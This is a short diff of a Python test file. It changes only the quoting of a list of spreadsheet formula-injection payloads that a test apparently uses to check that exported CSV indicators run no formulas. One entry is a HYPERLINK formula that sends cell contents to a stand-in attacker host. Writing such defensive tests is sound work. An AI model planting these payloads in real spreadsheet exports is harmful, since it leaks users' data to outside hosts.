@@ -80,7 +80,7 @@ def test_a_file_named_like_data_but_not_read_is_named(data_dir, capsys):
     assert err.startswith("warning: ") and "observations-2024.txt" in err and "not read" in err
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
 
 def test_indicators_csv_runs_no_formula(tmp_path):
